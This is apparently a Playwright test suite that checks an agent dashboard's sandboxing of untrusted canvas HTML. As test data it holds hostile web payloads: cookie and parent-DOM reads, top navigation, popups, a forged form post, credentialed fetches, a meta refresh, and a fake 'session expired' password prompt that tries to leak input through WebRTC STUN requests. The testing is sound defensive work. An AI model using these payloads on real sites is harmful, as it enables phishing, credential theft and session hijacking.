// Agent canvases are hostile HTML. In the real browser: a canvas presented while its agent's
// page is open appears without a reload; an attack corpus (cookies, the parent's DOM, top
// navigation, the API, form posts to dashboard routes, meta refresh, popups, javascript:
// links) reaches nothing of the dashboard; WebRTC sends nothing out (issue 41's phishing
// canvas that sent what the operator typed as STUN requests, directly, from a frame made
// inside it, or from a closed shadow root); an honest interactive canvas (a counter, a drawn
// chart) still works. Runs after dashboard.spec.ts (files run in name order) and signs in as
// its operator, or sets one up when run alone. The screenshot of the canvas page is the README's.
import { test, expect, Page, Frame } from '@playwright/test';
import * as dgram from 'dgram';
import { signIn } from './operator';

const shots = '../docs/screenshots';

test.describe.configure({ mode: 'serial' });

let page: Page;
let api: { headers: Record<string, string> };
let artist = '';

async function present(html: string, title: string): Promise<number> {
  const res = await page.request.post(`/api/agents/${artist}/tools/canvas_present/invoke`, { ...api, data: { args: { html, title } } });
  expect(res.status()).toBe(200);
  return (await res.json()).content.version;
}

/** The frame of the canvas on the page once it shows `version`. */
async function canvasFrame(version: number): Promise<Frame> {
  await expect(page.locator('iframe.canvas')).toHaveAttribute('data-version', String(version));
  const handle = await page.locator('iframe.canvas').elementHandle();
  const frame = await handle!.contentFrame();
  await frame!.waitForLoadState();
  return frame!;
}

test.beforeAll(async ({ browser }) => {
  page = await browser.newPage();
  await signIn(page);
  await page.goto('/settings');
  await page.getByLabel('New token named').fill('canvas-e2e');
  await page.getByRole('button', { name: 'Create token' }).click();
  const token = (await page.locator('#new-token pre.token').textContent()) ?? '';
  api = { headers: { Authorization: `Bearer ${token}` } };
  expect((await page.request.post('/api/templates', { ...api, data: { name: 'artist', tools: ['canvas_present'] } })).status()).toBe(201);
  artist = (await (await page.request.post('/api/agents', { ...api, data: { template: 'artist' } })).json()).id;
});

test.afterAll(async () => {
  await page.close();
});

const ATTACK = `<!doctype html><meta charset="utf-8"><title>attack</title>
<pre id="log"></pre>
<form id="post" method="post" action="/agent-types"><input name="name" value="pwned-by-form"></form>
<a id="js" href="javascript:parent.document.title='pwned-by-link'">js</a>
<a id="top" href="/settings?pwned=top-link" target="_top">top</a>
<script>
  const log = (k, v) => { document.getElementById('log').textContent += k + '=' + v + '\\n'; };
  const attempt = (k, f) => { try { log(k, f()); } catch (e) { log(k, 'blocked:' + e.name); } };
  attempt('cookie', () => 'read:' + document.cookie);
  attempt('parent', () => 'read:' + parent.document.title);
  attempt('parent-dom', () => 'read:' + parent.document.body.innerHTML.length);
  attempt('top', () => { top.location = '/settings?pwned=top'; return 'assigned'; });
  attempt('open', () => { const w = window.open('/settings?pwned=popup'); return w ? 'opened' : 'null'; });
  attempt('form', () => { document.getElementById('post').submit(); return 'submit called'; });
  attempt('js-link', () => { document.getElementById('js').click(); return 'clicked'; });
  attempt('top-link', () => { document.getElementById('top').click(); return 'clicked'; });
  Promise.all(['/api/templates', '/agents', '/settings'].map((url) =>
    fetch(url, { credentials: 'include' }).then((r) => 'status:' + r.status, (e) => 'blocked:' + e.name)
  )).then((results) => { log('fetch', results.join(',')); log('done', 'yes'); });
</script>`;

const REFRESH = `<!doctype html><meta http-equiv="refresh" content="0; url=/settings?pwned=refresh"><p id="before">before refresh</p>`;

const HONEST = `<!doctype html><meta charset="utf-8">
<style>body { font: 16px system-ui; margin: 1rem; } button { font-size: 1.1rem; padding: .4rem 1rem; }</style>
<h1>Build times this week</h1>
<button id="count">clicked 0 times</button>
<canvas id="chart" width="360" height="160"></canvas>
<script>
  let n = 0;
  const button = document.getElementById('count');
  button.addEventListener('click', () => { n += 1; button.textContent = 'clicked ' + n + ' times'; });
  const ctx = document.getElementById('chart').getContext('2d');
  [42, 75, 58, 96, 64].forEach((h, i) => { ctx.fillStyle = '#2f7d5b'; ctx.fillRect(10 + i * 70, 150 - h, 50, h); });
  document.body.dataset.drawn = 'yes';
</script>`;

test('a canvas presented while the agent page is open appears without a reload', async () => {
  await page.goto(`/agents/${artist}`);
  await expect(page.locator('#no-canvas')).toBeVisible();
  const loaded = page.url();
  const version = await present(HONEST, 'Build times');
  await canvasFrame(version);
  expect(page.url()).toBe(loaded);
  await expect(page.locator('#canvas-versions a').first()).toHaveText(`v${version} · Build times`);
});

test('the attack corpus reaches nothing of the dashboard', async () => {
  const popups: string[] = [];
  page.context().on('page', (p) => popups.push(p.url()));
  const dashboardTitle = await page.title();
  const here = page.url();
  const version = await present(ATTACK, 'Attack');
  const frame = await canvasFrame(version);
  await expect(frame.locator('#log')).toContainText('done=yes');
  const log = await frame.locator('#log').textContent();
  expect(log).toContain('cookie=blocked:SecurityError');
  expect(log).toContain('parent=blocked:SecurityError');
  expect(log).toContain('parent-dom=blocked:SecurityError');
  expect(log).toContain('open=null');
  expect(log).toContain('fetch=blocked:TypeError,blocked:TypeError,blocked:TypeError');
  await page.waitForTimeout(500); // any navigation it started would have happened
  expect(page.url()).toBe(here);
  expect(await page.title()).toBe(dashboardTitle);
  expect(popups).toEqual([]);
  const types = await (await page.request.get('/api/templates', api)).json();
  expect(types.map((t: { name: string }) => t.name)).not.toContain('pwned-by-form');
});

/** A canvas that asks for the operator's password and sends what is typed to a STUN server
 * on `port`: from its own window, then from frames it makes (in the page and in a closed
 * shadow root), which would get WebRTC afresh. */
function stunAttack(port: number): string {
  const offer = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    pc.createDataChannel(document.title || 'typed-by-the-operator');
    pc.createOffer().then((o) => pc.setLocalDescription(o));`;
  return `<!doctype html><meta charset="utf-8"><title>Session expired</title>
<p>Your session expired. Re-enter your operator password: <input id="pw" value="typed-by-the-operator"></p>
<pre id="log"></pre>
<script>
  const log = (k, v) => { document.getElementById('log').textContent += k + '=' + v + '\\n'; };
  const attempt = (k, f) => { try { f(); log(k, 'ran'); } catch (e) { log(k, 'blocked:' + e.name); } };
  const offer = ${JSON.stringify(offer)};
  attempt('direct', () => { ${offer} });
  attempt('webkit', () => new webkitRTCPeerConnection({ iceServers: [] }));
  attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + offer + '<\\/script>'; document.body.append(f); });
  attempt('markup', () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>' + offer.replace(/"/g, '&quot;') + '<\\/script>"></iframe>'));
  attempt('shadow', () => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
    root.innerHTML = '<iframe srcdoc="<script>' + offer.replace(/"/g, '&quot;') + '<\\/script>"></iframe>'; });
  attempt('declarative', () => document.body.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe></iframe></template></div>'));
  setTimeout(() => { log('frames', document.querySelectorAll('iframe').length); log('done', 'yes'); }, 500);
</script>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>${offer.replace(/"/g, '&quot;')}</script>"></iframe></template></div>`;
}

test('a canvas sends nothing out through WebRTC, from itself or from a frame it makes', async () => {
  const stun = dgram.createSocket('udp4');
  let received = 0;
  stun.on('message', () => { received += 1; });
  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
  const port = stun.address().port;
  // The listener counts what reaches it (so a 0 below means nothing was sent).
  const probe = dgram.createSocket('udp4');
  await new Promise<void>((resolve) => probe.send('probe', port, '127.0.0.1', () => resolve()));
  await expect.poll(() => received).toBe(1);
  probe.close();
  received = 0;

  await page.goto(`/agents/${artist}`);
  const version = await present(stunAttack(port), 'Session expired');
  const frame = await canvasFrame(version);
  await expect(frame.locator('#log')).toContainText('done=yes');
  const log = await frame.locator('#log').textContent();
  expect(log).toContain('direct=blocked:TypeError');
  expect(log).toContain('webkit=blocked:TypeError');
  expect(log).toContain('declarative=blocked:NotSupportedError');
  expect(log).toContain('frames=0');
  await page.waitForTimeout(3000); // ICE gathering sends its first STUN request within a second
  stun.close();
  expect(received).toBe(0);
});

test('a meta refresh cannot take the frame to a dashboard page', async () => {
  const here = page.url();
  const version = await present(REFRESH, 'Refresh');
  await expect(page.locator('iframe.canvas')).toHaveAttribute('data-version', String(version));
  await page.waitForTimeout(800);
  expect(page.url()).toBe(here);
  const frame = page.frameLocator('iframe.canvas');
  await expect(frame.getByRole('heading', { name: 'Settings' })).toHaveCount(0);
  await expect(frame.locator('input[name=csrf]')).toHaveCount(0);
});

// Opened as a page of its own (no frame), a canvas is still in an origin of its own: its
// navigations are a link's (GET, no CSRF token), so this one only tries to read.
const READER = ATTACK.split('\n').filter((line) => !/top|open|form|link|<form|<a /.test(line)).join('\n');

test('the canvas opened on its own is sandboxed too', async () => {
  const version = await present(READER, 'Reader');
  const res = await page.request.get(`/canvas/${artist}/${version}/frame`);
  expect(res.headers()['content-security-policy']).toMatch(/^sandbox allow-scripts; default-src 'none';/);
  await page.goto(`/canvas/${artist}/${version}/frame`);
  await expect(page.locator('#log')).toContainText('done=yes');
  const log = await page.locator('#log').textContent();
  expect(log).toContain('cookie=blocked:SecurityError');
  expect(log).toContain('fetch=blocked:TypeError,blocked:TypeError,blocked:TypeError');
  await page.waitForTimeout(300);
  expect(page.url()).toMatch(/\/canvas\/[0-9a-f-]+\/\d+\/frame$/);
});

test('an honest interactive canvas works: a counter and a drawn chart', async () => {
  const version = await present(HONEST, 'Build times');
  await page.goto(`/canvas/${artist}/${version}`);
  const frame = await canvasFrame(version);
  await expect(frame.locator('body')).toHaveAttribute('data-drawn', 'yes');
  await frame.getByRole('button', { name: 'clicked 0 times' }).click();
  await frame.getByRole('button', { name: 'clicked 1 times' }).click();
  await expect(frame.locator('#count')).toHaveText('clicked 2 times');
  const painted = await frame.evaluate(() => {
    const c = document.getElementById('chart') as HTMLCanvasElement;
    const pixels = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
    let filled = 0;
    for (let i = 3; i < pixels.length; i += 4) if (pixels[i] > 0) filled += 1;
    return filled;
  });
  expect(painted).toBeGreaterThan(1000);
  await expect(page.locator('ol.versions li')).toHaveCount(version);
  await page.screenshot({ path: `${shots}/canvas.png`, fullPage: true });
  await page.goto('/canvas');
  await expect(page.locator('.canvas-card h2')).toContainText(['Build times']);
  await page.screenshot({ path: `${shots}/canvases.png`, fullPage: true });
});
